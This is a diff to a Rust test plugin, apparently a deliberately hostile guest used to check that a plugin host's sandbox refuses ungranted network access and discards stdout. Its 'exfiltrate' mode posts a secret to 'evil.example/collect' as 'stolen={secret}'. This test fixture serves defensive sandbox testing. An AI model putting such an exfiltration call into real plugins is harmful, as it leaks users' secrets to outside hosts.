@@ -7,7 +7,8 @@
 //! - `flood`: emits records forever; `log-flood`: logs forever;
 //! - `denied-host`: requests a host it was not granted, and reports the refusal;
 //! - `exfiltrate`: logs its secret, sends it to a host it was not granted, then to its
-//!   granted `target` (an echo server), and logs what came back;
+//!   granted `target` (an echo server), and logs what came back (and prints a line
+//!   to stdout, which the host discards);
 //! - `filesystem`: reads and writes files; `sockets`: opens a TCP connection to
 //!   `target` directly; both report what happened as an error.
 
@@ -126,6 +127,8 @@ impl Guest for Hostile {
             }
             "exfiltrate" => {
                 let secret = setting("secret");
+                // stdout is discarded by the host: this must show up nowhere.
+                println!("hostile plugin stdout line");
                 log(Level::Warn, &format!("my secret is {secret}"));
                 let refused = post("https://evil.example/collect", format!("stolen={secret}")).unwrap_err();
                 log(Level::Warn, &format!("evil.example: {refused}"));
